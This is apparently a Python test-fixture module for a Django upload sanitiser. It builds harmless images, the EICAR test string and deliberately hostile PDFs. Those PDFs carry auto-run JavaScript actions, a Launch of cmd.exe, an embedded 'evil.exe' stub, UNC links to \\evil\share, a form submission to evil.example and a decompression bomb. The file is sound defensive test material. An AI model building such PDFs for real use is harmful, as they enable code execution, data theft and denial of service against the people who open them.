"""Files as people send them, and as attackers do; each made here from nothing."""

from __future__ import annotations

import zlib
from io import BytesIO
from typing import Any

import pikepdf
from django.core.files.uploadedfile import SimpleUploadedFile, UploadedFile
from pikepdf import Array, Dictionary, Name, String
from PIL import Image

CANARY = "Qanary-4711-Zyxwvut"
EICAR = b"X5O!P%@AP[4\\PZX54(P^)7CC)7}$EICAR-STANDARD" + b"-ANTIVIRUS-TEST-FILE!$H+H*"


def upload(data: bytes, name: str) -> UploadedFile:
    return SimpleUploadedFile(name, data, content_type="application/octet-stream")


def picture(
    kind: str = "JPEG", *, size: tuple[int, int] = (60, 40), mode: str = "RGB", **options: Any
) -> bytes:
    """A picture with a red corner at the top left."""
    drawn = Image.new(mode, size, 255 if mode in {"L", "P", "1"} else "white")
    if mode == "RGB":
        drawn.paste((200, 0, 0), (0, 0, size[0] // 3, size[1] // 3))
    out = BytesIO()
    drawn.save(out, kind, **options)
    return out.getvalue()


def photo_with_place(*, orientation: int = 1) -> bytes:
    """A photo as a phone takes it: with its place, its maker and a remark."""
    exif = Image.Exif()
    exif[0x0112] = orientation
    exif[0x010E] = CANARY
    place = exif.get_ifd(0x8825)
    place[1], place[2], place[3], place[4] = "N", (41.0, 23.0, 4.0), "E", (2.0, 10.0, 26.0)
    place[29] = "2026:03:02"
    return picture(exif=exif.tobytes(), comment=CANARY.encode())


def document(**root: Any) -> pikepdf.Pdf:
    """A PDF of one page that says who sent it."""
    pdf = pikepdf.new()
    pdf.add_blank_page(page_size=(300, 200))
    pdf.pages[0].Contents = pdf.make_stream(f"BT /F1 12 Tf 20 100 Td ({CANARY}) Tj ET".encode())
    for key, value in root.items():
        pdf.Root[Name("/" + key)] = value
    return pdf


def written(pdf: pikepdf.Pdf, **options: Any) -> bytes:
    out = BytesIO()
    pdf.save(out, **options)
    return out.getvalue()


def plain_pdf() -> bytes:
    return written(document())


def script(code: str = "app.alert(1)") -> Dictionary:
    return Dictionary(Type=Name.Action, S=Name.JavaScript, JS=String(code))


def note(subtype: str, **more: Any) -> Dictionary:
    return Dictionary(Type=Name.Annot, Subtype=Name("/" + subtype), Rect=Array([10, 10, 90, 40]), **more)


def pdf_that_does_everything() -> bytes:
    """A PDF with every way of acting that we know, in every place where it may stand."""
    pdf = document()
    root, page = pdf.Root, pdf.pages[0].obj
    embedded = pdf.make_stream(b"MZ evil program", Type=Name.EmbeddedFile)
    bag = Dictionary(
        Type=Name.Filespec, F=String("evil.exe"), UF=String("evil.exe"), EF=Dictionary(F=embedded)
    )
    root.OpenAction = script("open")
    root.AA = Dictionary(WC=script("closing"), WS=script("saving"))
    root.Requirements = Array([Dictionary(S=Name.EnableJavaScripts)])
    root.Names = Dictionary(
        JavaScript=Dictionary(Names=Array([String("start"), pdf.make_indirect(script("named"))])),
        EmbeddedFiles=Dictionary(Names=Array([String("evil.exe"), pdf.make_indirect(bag)])),
    )
    page.AA = Dictionary(O=script("page"))
    page.AF = Array([bag])
    launch = Dictionary(S=Name.Launch, F=String("cmd.exe"), Next=Array([script("next")]))
    page.Annots = pdf.make_indirect(
        Array(
            [
                pdf.make_indirect(note("Link", A=script("link"))),
                note("Link", A=launch),
                note("Link", A=Dictionary(S=Name.URI, URI=String("java\nscript:alert(1)"))),
                note("Link", A=Dictionary(S=Name.URI, URI=String("https://port-lumen.example/"))),
                note("Link", A=Dictionary(S=Name.GoToR, F=String("\\\\evil\\share"), D=Array([0, Name.Fit]))),
                note("FileAttachment", FS=bag),
                pdf.make_indirect(note("RichMedia")),
                note("Screen", A=Dictionary(S=Name.Rendition, JS=String("media"))),
                note("Text", Contents=String("a remark"), AA=Dictionary(E=script("enter"))),
            ]
        )
    )
    field = pdf.make_indirect(
        Dictionary(
            FT=Name.Tx,
            T=String("name"),
            V=String("Amina"),
            AA=Dictionary(K=script("keystroke"), C=script("calculate")),
            A=Dictionary(S=Name.SubmitForm, F=Dictionary(FS=Name.URL, F=String("https://evil.example/"))),
        )
    )
    root.AcroForm = Dictionary(Fields=Array([field]), XFA=pdf.make_stream(b"<xdp:xdp/>"))
    root.Outlines = Dictionary(
        First=pdf.make_indirect(Dictionary(Title=String("Contents"), A=script("outline")))
    )
    outside = pdf.make_stream(b"")
    outside.F = String("\\\\evil\\share\\file")
    page.Metadata = outside
    return written(pdf)


def pdf_of_many_parts(count: int) -> bytes:
    """A PDF with so many arrays, each an object of its own."""
    parts = [
        b"<</Type/Catalog/Pages 2 0 R>>",
        b"<</Type/Pages/Count 1/Kids[3 0 R]>>",
        b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 9 9]>>",
        *([b"[0]"] * count),
    ]
    body, places = [b"%PDF-1.5\n"], []
    at = len(body[0])
    for number, part in enumerate(parts, start=1):
        places.append(b"%010d 00000 n \n" % at)
        body.append(b"%d 0 obj\n%s\nendobj\n" % (number, part))
        at += len(body[-1])
    size = len(parts) + 1
    table = b"xref\n0 %d\n0000000000 65535 f \n%s" % (size, b"".join(places))
    end = b"trailer\n<</Size %d/Root 1 0 R>>\nstartxref\n%d\n%%%%EOF" % (size, at)
    return b"".join((*body, table, end))


def pdf_padded_by(*, megabytes: int) -> bytes:
    """A PDF of a few kilobytes whose objects unpack to so many megabytes (ISO 32000-1, 7.5.7 and 7.5.8)."""
    catalogue = b"<</Type/Catalog/Pages 3 0 R>>"
    pages = b"<</Type/Pages/Count 1/Kids[4 0 R]>>"
    page = b"<</Type/Page/Parent 3 0 R/MediaBox[0 0 9 9]>>"
    places = b"2 0 3 %d 4 %d " % (len(catalogue), len(catalogue + pages))
    packer = zlib.compressobj(1)
    packed = packer.compress(places + catalogue + pages + page)
    packed += b"".join(packer.compress(b" " * (1 << 20)) for _ in range(megabytes)) + packer.flush()
    head = b"%PDF-1.5\n"
    objects = b"1 0 obj\n<</Type/ObjStm/N 3/First %d/Filter/FlateDecode/Length %d>>\nstream\n" % (
        len(places),
        len(packed),
    )
    objects += packed + b"\nendstream\nendobj\n"
    at = len(head) + len(objects)
    rows = [(0, 0, 0), (1, len(head), 0), (2, 1, 0), (2, 1, 1), (2, 1, 2), (1, at, 0)]
    table = b"".join(bytes([kind]) + where.to_bytes(4, "big") + bytes([which]) for kind, where, which in rows)
    index = b"5 0 obj\n<</Type/XRef/Size 6/W[1 4 1]/Root 2 0 R/Length %d>>\nstream\n" % len(table)
    return head + objects + index + table + b"\nendstream\nendobj\nstartxref\n%d\n%%%%EOF" % at
